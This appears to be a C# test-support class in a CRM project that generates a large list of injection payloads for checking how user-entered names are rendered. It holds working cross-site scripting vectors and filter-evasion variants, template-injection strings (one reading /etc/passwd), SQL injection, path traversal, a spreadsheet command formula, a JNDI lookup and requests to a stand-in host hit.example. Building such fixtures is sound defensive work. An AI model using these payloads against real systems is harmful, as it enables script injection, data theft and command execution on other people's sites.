using System.Text;

namespace CrmAi.Tests.Support;

/// <summary>Texts that would run, or break a page apart, where somebody took them for markup. Each that runs leaves a mark on the window.</summary>
internal static class Payloads
{
    // Before the list that is made with it.
    private static readonly string[] Calls = ["__ran=1", "top.__ran=2", "self['__ran']=3", "alert(4)", "Function('__ran=5')()", "fetch('//hit.example/6')"];

    /// <summary>Short enough for a name, at least three hundred, each different.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Make().Where(p => p.Length <= 100).Distinct()];

    private static IEnumerable<string> Make() => Elements().Concat(Breakouts()).Concat(Addresses()).Concat(Templates()).Concat(Styles()).Concat(Letters()).Concat(Polyglots());

    private static IEnumerable<string> Elements()
    {
        string[] tags = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe", "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "style", "math", "p tabindex=0 autofocus", "x contenteditable autofocus", "link rel=stylesheet href=x"];
        string[] events = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerenter", "oncontentvisibilityautostatechange"];
        var call = 0;
        foreach (var tag in tags)
        {
            foreach (var on in events.Skip(tag.Length % 3).Take(4))
            {
                var run = Calls[call++ % Calls.Length];
                yield return (call % 4) switch { 0 => $"<{tag} {on}={run}>", 1 => $"<{tag} {on}=\"{run}\">", 2 => $"<{Swap(tag)} {Swap(on)} = '{run.Replace('\'', '"')}' />", _ => $"<{tag}/{on}={run.Replace(" ", "", StringComparison.Ordinal)}//" };
            }
        }
        foreach (var run in Calls)
        {
            yield return $"<script>{run}</script>";
            yield return $"<sCrIpT>{run}</ScRiPt >";
            yield return $"<script\n>{run}</script\t>";
            yield return $"<script src=data:,{Uri.EscapeDataString(run)}></script>";
            yield return $"<scr<script>ipt>{run}</scr</script>ipt>";
            yield return $"<iframe srcdoc='<script>parent.{run.Replace('\'', '"')}</script>'>";
            yield return $"<svg><script>{run}</script></svg>";
            yield return $"<math><mtext><img src=x onerror={run}></mtext></math>";
            yield return $"<template><script>{run}</script></template>";
            yield return $"<noscript><p title=\"</noscript><img src=x onerror={run}>\">";
        }
    }

    private static IEnumerable<string> Breakouts()
    {
        string[] ends = ["\"", "'", "\">", "'>", "`>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</select>", "</option>", "</bdi>", "</p></div>", "&quot;>", "\\\">", "\r\n\r\n", "</svg>", "</noscript>"];
        string[] then = ["<img src=x onerror=__ran=7>", " onmouseover=__ran=8 x=", " autofocus onfocus=__ran=9 y=\"", "<svg/onload=alert(10)>"];
        return from end in ends from rest in then select "王" + end + rest;
    }

    private static IEnumerable<string> Addresses()
    {
        string[] schemes = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "view-source:javascript:", "feed:javascript:", "blob:javascript:", "\\\\hit.example\\", "//hit.example/", "https:javascript:"];
        foreach (var scheme in schemes)
        {
            yield return scheme + "__ran=11";
            yield return $"<a href=\"{scheme}alert(12)\">李</a>";
            yield return $"[链接]({scheme}alert(13))";
        }
        yield return "<base href=//hit.example/>";
        yield return "<meta http-equiv=refresh content='0;url=//hit.example/'>";
        yield return "<form action=//hit.example/><button autofocus>走</button></form>";
        yield return "<img src=//hit.example/pixel>";
        yield return "<a ping=//hit.example/ href=/>点</a>";
    }

    private static IEnumerable<string> Templates()
    {
        string[] code = ["7*7", "constructor.constructor('__ran=14')()", "System.IO.File.ReadAllText(\"/etc/passwd\")", "DateTime.Now", "0/0"];
        (string Open, string Close)[] marks = [("{{", "}}"), ("${", "}"), ("<%=", "%>"), ("@(", ")"), ("@{", "}"), ("#{", "}"), ("{%", "%}"), ("[[", "]]"), ("*{", "}"), ("{0}", ""), ("{{{", "}}}"), ("$(", ")")];
        return from mark in marks from expression in code select mark.Open + expression + mark.Close;
    }

    private static IEnumerable<string> Styles() =>
    [
        "<style>*{display:none!important}</style>", "\"; background:url(//hit.example/a)", "color:red;}body{visibility:hidden", "<style>@import'//hit.example/b';</style>", "expression(alert(15))", "--tag: url(//hit.example/c)",
        "<link rel=stylesheet href=//hit.example/d>", "</style><script>__ran=16</script>", "<p style=position:fixed;inset:0>盖住</p>", "<div style='animation:rise 1s' onanimationstart=__ran=17>", "#000;}*{color:red", "url('javascript:alert(18)')",
    ];

    private static IEnumerable<string> Letters() =>
    [
        "\u202E倒写的名字\u202C 正常", "شركة \u2067محمد\u2069 العربية", "\u200B\u200D\uFEFF看不见", "Z\u0351\u0325a\u0344\u0357l\u0340g\u0346o\u0342 名", "👩‍👩‍👧‍👦👍🏽🏴‍☠️", "שלום (חברה) 2026", "＜script＞alert（19）＜/script＞", "\u0000<script>__ran=20</script>", "a\u0000b", "\u0007\u001B[31m红",
        "%3Cscript%3E__ran=21%3C/script%3E", "\\u003cscript\\u003e__ran=22", "&lt;script&gt;__ran=23&lt;/script&gt;", "&#x3C;img src=x onerror=__ran=24&#x3E;", "+ADw-script+AD4-alert(25)+ADw-/script+AD4-", "ﷺ﷽𒐫", "\u2028__ran=26\u2029", "'; DROP TABLE Contacts;--", "../../../etc/passwd", "CON", "=cmd|' /C calc'!A0", "${jndi:ldap://hit.example/x}", "\uE000\uFFFD\uFFFC", "ｊａｖａｓｃｒｉｐｔ：alert(27)",
    ];

    private static IEnumerable<string> Polyglots()
    {
        string[] parts = ["jaVasCript:/*-/*`/*\\`/*'/*\"/**/", "'\"--></title></style>", "\" onfocus=__ran=28 autofocus ", "{{7*7}}${7*7}<%= 7*7 %>", "<svg/onload='+/\"/+/onmouseover=1/", "</script><svg onload=__ran=29>", "\u202E>=1=nar__ rorreno x=crs gmi<"];
        return from a in parts from b in parts where a != b select a + b;
    }

    private static string Swap(string text)
    {
        var mixed = new StringBuilder(text);
        for (var i = 0; i < mixed.Length && mixed[i] != ' '; i += 2) mixed[i] = char.ToUpperInvariant(mixed[i]);
        return mixed.ToString();
    }
}
